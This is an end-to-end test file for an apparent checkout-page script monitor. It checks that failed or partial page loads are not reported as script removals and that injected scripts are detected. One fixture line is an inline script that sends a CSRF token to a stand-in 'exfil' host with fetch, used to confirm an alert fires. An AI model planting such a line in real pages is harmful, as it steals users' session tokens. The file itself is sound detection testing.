// End to end: failed or partial loads are failed scans, never removals; a real removal waits for two scans.

import assert from 'node:assert/strict';
import { afterAll, beforeAll, describe, it } from 'vitest';
import { APP_JS, CHECKOUT_HTML, CSP } from '../fixtures/shop.js';
import { baselinedShop, type Scenario } from './scenario.js';

describe('failed loads and removals', () => {
  let s: Scenario;
  beforeAll(async () => { s = await baselinedShop({ pageTimeout: '3s', canary: false }); });
  afterAll(async () => { await s.close(); });

  it('records an HTTP 500 page as a failed scan with exit 3 and no removal', async () => {
    s.site.set('shop.test', '/checkout', { body: 'Internal Server Error', status: 500 });
    for (let i = 0; i < 3; i++) {
      const { result, json } = await s.scan();
      assert.equal(result.code, 3, result.stdout);
      assert.equal(json.targets[0]!.status, 'failed');
      assert.equal(json.targets[0]!.error?.code, 'PAGE_HTTP_ERROR');
      assert.deepEqual(json.alerts, []);
    }
  });

  it('records a page whose scripts never finish loading as a timed-out scan, not as removals', async () => {
    const { installShop } = await import('../fixtures/shop.js');
    installShop(s.site);
    s.site.set('shop.test', '/static/app.js', { body: APP_JS, delayMs: 6000 });
    for (let i = 0; i < 2; i++) {
      const { result, json } = await s.scan();
      assert.equal(result.code, 3);
      assert.equal(json.targets[0]!.error?.code, 'PAGE_TIMEOUT');
      assert.match(json.targets[0]!.error!.message, /within 3000 ms/);
      assert.deepEqual(json.alerts, []);
    }
    s.site.set('shop.test', '/static/app.js', APP_JS);
    const { result, json } = await s.scan();
    assert.equal(result.code, 0, JSON.stringify(json.alerts));
    assert.deepEqual(json.alerts, [], 'recovery after failures is quiet');
  });

  it('fails a page whose document breaks off part way (reset, truncated), and raises no removal', async () => {
    const { installShop } = await import('../fixtures/shop.js');
    installShop(s.site);
    // The cut falls after the first scripts: the browser fires load on what arrived, and the rest of the page is missing.
    const head = CHECKOUT_HTML.slice(0, CHECKOUT_HTML.indexOf('<form'));
    for (const cut of ['reset', 'truncate'] as const) {
      // Two failed scans in a row (one per kind of cut): a failed scan never counts toward removalThreshold.
      s.site.set('shop.test', '/checkout', { body: head, cut, headers: { 'content-security-policy': CSP, 'x-frame-options': 'DENY' } });
      const { result, json } = await s.scan();
      assert.equal(result.code, 3, `${cut}: ${result.stdout}`);
      assert.equal(json.targets[0]!.error?.code, 'PAGE_INCOMPLETE', cut);
      assert.match(json.targets[0]!.error!.message, cut === 'reset' ? /ERR_CONNECTION_RESET/ : /ERR_CONTENT_LENGTH_MISMATCH|ERR_INCOMPLETE/);
      assert.deepEqual(json.alerts, [], cut);
    }
    installShop(s.site);
    const { json } = await s.scan();
    assert.deepEqual(json.alerts, [], 'the complete page again is quiet');
  });

  it('fails a page that navigates itself away after load (location.replace, meta refresh, form submit), and raises no removal', async () => {
    const { installShop } = await import('../fixtures/shop.js');
    installShop(s.site);
    s.site.set('shop.test', '/elsewhere', '<!doctype html><p>moved</p><script>window.elsewhere = 1;</script>');
    const leave = [
      `<script>addEventListener('load', function () { setTimeout(function () { location.replace('/elsewhere'); }, 30); });</script>`,
      `<meta http-equiv="refresh" content="0.3;url=/elsewhere">`,
      `<form id="away" action="/elsewhere" method="get"><input name="q" value="x"></form><script>addEventListener('load', function () { setTimeout(function () { document.getElementById('away').submit(); }, 30); });</script>`,
    ];
    for (const how of leave) {
      // Three failed scans in a row: none counts toward removalThreshold.
      s.site.set('shop.test', '/checkout', { body: CHECKOUT_HTML.replace('</body>', `${how}</body>`), headers: { 'content-security-policy': CSP, 'x-frame-options': 'DENY' } });
      const { result, json } = await s.scan();
      assert.equal(json.targets[0]!.error?.code, 'PAGE_NAVIGATED_AWAY', `${how}: ${result.stdout}`);
      assert.match(json.targets[0]!.error!.message, /navigated itself to http:\/\/shop\.test:\d+\/elsewhere/);
      assert.equal(result.code, 3);
      assert.deepEqual(json.alerts, [], how);
    }
  });

  it('records scripts that fail to load (reset, unknown host, HTTP 503) as failed sub-resources, never as removed or changed', async () => {
    const { installShop } = await import('../fixtures/shop.js');
    installShop(s.site);
    await s.scan();
    await s.cli('approve', '--all', '--by', 'alice');
    installShop(s.site);
    for (const broken of [{ body: 'window.app = ', cut: 'reset' as const }, { body: 'Service Unavailable', status: 503 }]) {
      s.site.set('shop.test', '/static/app.js', broken);
      for (let i = 0; i < 2; i++) {
        const { result, json } = await s.scan();
        assert.equal(result.code, 0, JSON.stringify(json.alerts));
        assert.deepEqual(json.alerts, [], 'a failed load is neither a removal nor a change');
        const outcome = json.targets[0]!;
        assert.equal(outcome.status, 'ok');
        assert.equal(outcome.failedLoads.length, 1, JSON.stringify(outcome));
        assert.match(outcome.failedLoads[0]!.url, /\/static\/app\.js$/);
        assert.match(outcome.failedLoads[0]!.error, broken.status ? /HTTP 503/ : /ERR_CONNECTION_RESET|ERR_EMPTY_RESPONSE|ERR_INCOMPLETE/);
        assert.ok(outcome.warnings.some((w) => w.includes('/static/app.js') && /failed to load/.test(w)), JSON.stringify(outcome.warnings));
      }
    }
    installShop(s.site);
    const { json } = await s.scan();
    assert.deepEqual(json.alerts, [], 'the script loading again is quiet');
    assert.deepEqual(json.targets[0]!.failedLoads, []);
    // A host that does not resolve: the new reference is reported once (its body unread), then it is only a warning.
    const page = CHECKOUT_HTML.replace('</body>', '<script src="http://gone.invalid/tag.js"></script></body>');
    s.site.set('shop.test', '/checkout', { body: page, headers: { 'content-security-policy': CSP.replace('{{PORT}};', '{{PORT}} http://gone.invalid;'), 'x-frame-options': 'DENY' } });
    const dns = await s.scan();
    assert.equal(dns.result.code, 1, JSON.stringify(dns.json));
    assert.match(dns.json.alerts.map((a) => a.summary).join(' '), /gone\.invalid\/tag\.js could not be read \(net::ERR_NAME_NOT_RESOLVED\)/);
    assert.match(dns.json.targets[0]!.failedLoads[0]!.error, /ERR_NAME_NOT_RESOLVED/, JSON.stringify(dns.json.targets[0]));
    await s.cli('approve', '--all', '--by', 'alice');
    const again = await s.scan();
    assert.deepEqual(again.json.alerts, []);
    assert.equal(again.json.targets[0]!.failedLoads.length, 1, JSON.stringify(again.json.targets[0]));
  });

  it('raises script.removed only after two consecutive successful scans without the script', async () => {
    const page = CHECKOUT_HTML.replace(/<script src="http:\/\/cdn\.test[^>]*><\/script>/, '');
    assert.notEqual(page, CHECKOUT_HTML);
    s.site.set('shop.test', '/checkout', { body: page, headers: { 'content-security-policy': CSP, 'x-frame-options': 'DENY' } });
    const first = await s.scan();
    assert.equal(first.result.code, 0, JSON.stringify(first.json.alerts));
    assert.deepEqual(first.json.alerts, [], 'one scan without the script is not yet a removal');
    const second = await s.scan();
    assert.equal(second.result.code, 1);
    const removed = second.json.alerts.filter((a) => a.type === 'script.removed');
    assert.equal(removed.length, 1, JSON.stringify(second.json.alerts, null, 2));
    assert.match(removed[0]!.subject, /widget-2\.4\.1\.min\.js$/);
    assert.equal(second.json.alerts.length, 1);
    const third = await s.scan();
    assert.deepEqual(third.json.alerts, [], 'the open removal is not raised twice');
  });

  it('keeps one identity for a script behind a rotating cache-buster', async () => {
    const { installShop } = await import('../fixtures/shop.js');
    installShop(s.site);
    for (const buster of ['cb=8f3a9c2e71d04b5a', 'v=1732262400123']) {
      s.site.set('shop.test', '/checkout', { body: CHECKOUT_HTML.replace('/static/app.js', `/static/app.js?${buster}`), headers: { 'content-security-policy': CSP, 'x-frame-options': 'DENY' } });
      const { result, json } = await s.scan();
      assert.deepEqual(json.alerts.filter((a) => a.type !== 'script.removed'), [], buster);
      assert.notEqual(result.code, 3);
    }
  });

  it('stays quiet when an inline script carries a fresh CSRF token and timestamp on every load', async () => {
    const { installShop } = await import('../fixtures/shop.js');
    installShop(s.site);
    const withToken = (token: string, stamp: number) =>
      s.site.set('shop.test', '/checkout', {
        body: CHECKOUT_HTML.replace('</head>', `<script>window.csrf = { token: "${token}", issued: ${stamp} };</script></head>`),
        headers: { 'content-security-policy': CSP, 'x-frame-options': 'DENY' },
      });
    withToken('a8Kd93Jf02Lq7Zm4Xv6Bn1Rt', 1732262400123);
    for (let i = 0; i < 2; i++) {
      await s.scan();
      await s.cli('approve', '--all', '--by', 'alice'); // also settles what earlier tests left open
    }
    withToken('Pq2Wn8Ey5Ru1Ti9Oc4Xz7Mv3', 1732266000456);
    const { json } = await s.scan();
    assert.deepEqual(json.alerts, []);
    withToken('Pq2Wn8Ey5Ru1Ti9Oc4Xz7Mv3', 1732266000456);
    s.site.set('shop.test', '/checkout', {
      body: CHECKOUT_HTML.replace('</head>', '<script>window.csrf = { token: "Zz9Yy8Xx7Ww6Vv5Uu4Tt3Ss2", issued: 1732269600789 }; fetch("http://exfil-csrf.test:{{PORT}}/t?" + window.csrf.token);</script></head>'),
      headers: { 'content-security-policy': CSP, 'x-frame-options': 'DENY' },
    });
    const tampered = await s.scan();
    assert.ok(tampered.json.alerts.some((a) => a.type === 'script.changed' && a.details.kind === 'inline'), JSON.stringify(tampered.json.alerts, null, 2));
  });
});
